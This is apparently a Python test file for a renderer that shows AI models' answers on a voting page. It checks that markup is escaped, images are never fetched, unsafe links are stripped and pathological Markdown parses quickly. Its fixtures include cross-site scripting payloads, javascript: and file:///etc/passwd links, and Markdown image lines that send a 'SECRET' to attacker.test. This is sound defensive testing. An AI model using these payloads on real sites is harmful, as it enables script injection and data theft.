"""What strangers wrote is shown, and never obeyed."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.rendering import Renderer
from web.rendering.answers import SHOWN_LETTERS

# Far above what was measured, so that only a change of order fails: a quadratic parser takes seconds.
SECONDS = 2.0
VOID = {"br", "hr"}
PASSIVE = {"href", "rel", "title", "class", "tabindex", "role", "aria-label", "dir", "start"}


class Seen(HTMLParser):
    """What a browser would make of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.open: list[str] = []
        self.links: list[dict[str, str | None]] = []
        self.names: set[str] = set()
        self.text = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.names |= {name for name, _ in attrs}
        if tag not in VOID:
            self.open.append(tag)
        if tag == "a":
            self.links.append(dict(attrs))

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> ends what is outside of the answer"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture
def renderer() -> Renderer:
    return Renderer()


@pytest.mark.parametrize(
    "answer",
    [
        "<img src=x onerror=alert(1)><svg onload=alert(2)>",
        '<img src="https://e.test/a.jpg">',
        '<picture><source srcset="https://a.test/y"></picture><style>@import "https://a.test/z"</style>',
        "<script>alert(1)</script>",
        "</div></article><form action=/battles>",
        "<math><annotation-xml encoding='text/html'><script>x</script></annotation-xml></math>",
    ],
)
def test_html_of_an_answer_is_shown_as_text(renderer: Renderer, answer: str) -> None:
    """An answer that says <script> is about scripts; it must not become one."""
    seen = Seen(renderer.answer(answer))

    assert set(seen.tags) <= {"p"}
    assert seen.text.strip() == answer
    assert not seen.open


@pytest.mark.parametrize(
    "answer",
    [
        "![p](https://attacker.test/p.png?leak=SECRET)",
        "![p][r]\n\n[r]: https://attacker.test/p.png",
        "[![p](https://attacker.test/p.png)](https://attacker.test/)",
    ],
)
def test_an_image_is_never_fetched(renderer: Renderer, answer: str) -> None:
    """Its address can carry what the page knows to a foreign host."""
    seen = Seen(renderer.answer(answer))

    assert "img" not in seen.tags
    assert "image: p" in seen.text


def test_links_lead_to_the_web_or_to_a_mailbox(renderer: Renderer) -> None:
    """A link that runs a script runs as this site."""
    answer = (
        "[go](javascript:alert(1)) [d](data:text/html,x) [v](VBScript:x) [t](\tjava\nscript:alert(1)) "
        "[f](file:///etc/passwd) [r](/battles) <javascript:alert(1)> [ok](https://example.org)"
    )

    links = Seen(renderer.answer(answer)).links

    assert [link["href"] for link in links] == ["https://example.org"]
    assert links[0]["rel"] == "noopener noreferrer nofollow ugc"


def test_a_link_without_words_shows_where_it_leads(renderer: Renderer) -> None:
    """A link that cannot be seen cannot be avoided."""
    assert Seen(renderer.answer("[](https://example.org)")).text.strip() == "https://example.org"


def test_a_formula_is_no_heading(renderer: Renderer) -> None:
    """A line of `= b` under a line of text is a heading in Markdown; inside of dollars it is not."""
    tags = Seen(renderer.answer("$$\na\n= b\n$$")).tags

    assert "math" in tags
    assert not {"h1", "h2", "h3", "h4"} & set(tags)


def test_prices_are_no_formula(renderer: Renderer) -> None:
    """Answers speak of money more often than of mathematics."""
    seen = Seen(renderer.answer("It costs $5 or $6, and $x^2$ is a square."))

    assert seen.tags.count("math") == 1
    assert "$5 or $6" in seen.text


def test_an_unreadable_formula_is_shown_as_written(renderer: Renderer) -> None:
    """A voter can still judge an answer whose TeX is broken."""
    assert "\\frac{" in Seen(renderer.answer("$\\frac{$")).text


def test_a_formula_cannot_link(renderer: Renderer) -> None:
    """TeX has a command for links, and it takes any address."""
    html = renderer.answer("$\\href{javascript:alert(1)}{x}$")

    assert "javascript" not in html


def test_headings_follow_each_other_under_the_side(renderer: Renderer) -> None:
    """A screen reader's list of headings must not skip a level, wherever an answer begins."""
    tags = Seen(renderer.answer("### Deep first\n\n###### Deeper\n\n# Top\n\n#\n")).tags

    assert [tag for tag in tags if tag.startswith("h")] == ["h3", "h4", "h3"]


def test_code_is_marked_by_classes_alone(renderer: Renderer) -> None:
    """The policy forbids styles in the page."""
    seen = Seen(renderer.answer("```python\nprint('<b>')\n```\n\n    indented\n"))

    assert seen.tags.count("pre") == 2
    assert "style" not in seen.names
    assert "print('<b>')" in seen.text


def test_both_sides_are_cut_at_the_same_place(renderer: Renderer) -> None:
    """Of two long answers neither may show more than the other, and nothing is lost."""
    a, b = ("word " * 100_000, "\n".join(["letters"] * 100_000))

    for answer in (a, b):
        seen = Seen(renderer.answer(answer))
        shown = seen.text.index("Show the other")
        assert SHOWN_LETTERS / 2 <= shown <= SHOWN_LETTERS + 1
        assert seen.tags.count("details") == 1
        assert abs(len(seen.text) - len(answer)) < 100


HOSTILE = {
    "brackets": "[" * 60_000,
    "images": "![" * 60_000,
    "links": "[a](" * 30_000,
    "nested links": "[a" * 30_000 + "](x)" * 30_000,
    "footnotes": "[^a" * 30_000,
    "quotes": ">" * 60_000,
    "quoted lists": "> - " * 30_000,
    "deep lists": "".join(f"{'  ' * depth}- a\n" for depth in range(500)),
    "emphasis": "*a **b " * 20_000,
    "strikethrough": "~~a" * 40_000,
    "ticks": "".join("`" * n + " " for n in range(500)),
    "dollars": "$a" * 60_000,
    "formulas": "$a$ " * 30_000,
    "braces": "$" + "{" * 1000 + "}" * 1000 + "$",
    "tables": ("|a" * 200 + "\n" + "|-" * 200 + "\n") + ("|a" * 200 + "\n") * 200,
    "references": "".join(f"[{n}]: x\n" for n in range(20_000)),
    "entities": "&" * 100_000,
    "tags": "<a " * 40_000,
    "one line": "a" * 1_000_000,
    "code": "```python\n" + "'" * 60_000,
    "strings": "```js\n" + "`${" * 20_000,
    "markup": "```html\n" + "<a " * 20_000,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_costs_little(renderer: Renderer, kind: str) -> None:
    """An answer that takes the server a minute takes the vote from everybody."""
    started = time.process_time()

    html = renderer.answer(HOSTILE[kind])

    assert time.process_time() - started < SECONDS
    assert not Seen(html).open


@given(st.text(alphabet=st.sampled_from("<>[]()!*_`$\\{}|-#&~\n \"'=/:ahjx0\u202e"), max_size=200))
def test_no_text_leaves_its_box(text: str) -> None:
    """Whatever is written, tags balance and only passive attributes come through."""
    seen = Seen(Renderer().answer(text))

    assert not seen.open
    assert not {"img", "script", "style", "form", "iframe"} & set(seen.tags)
    assert not [name for name in seen.names if name.startswith("on") or name in {"style", "src"}]


def test_a_prompt_is_shown_letter_for_letter(renderer: Renderer) -> None:
    """The models were sent these letters, not their formatting."""
    prompt = "# Not a heading\n\n*stars*  <b>\n"

    seen = Seen(renderer.prompt(prompt))

    assert seen.text == prompt
    assert re.fullmatch("p", "".join(seen.tags))
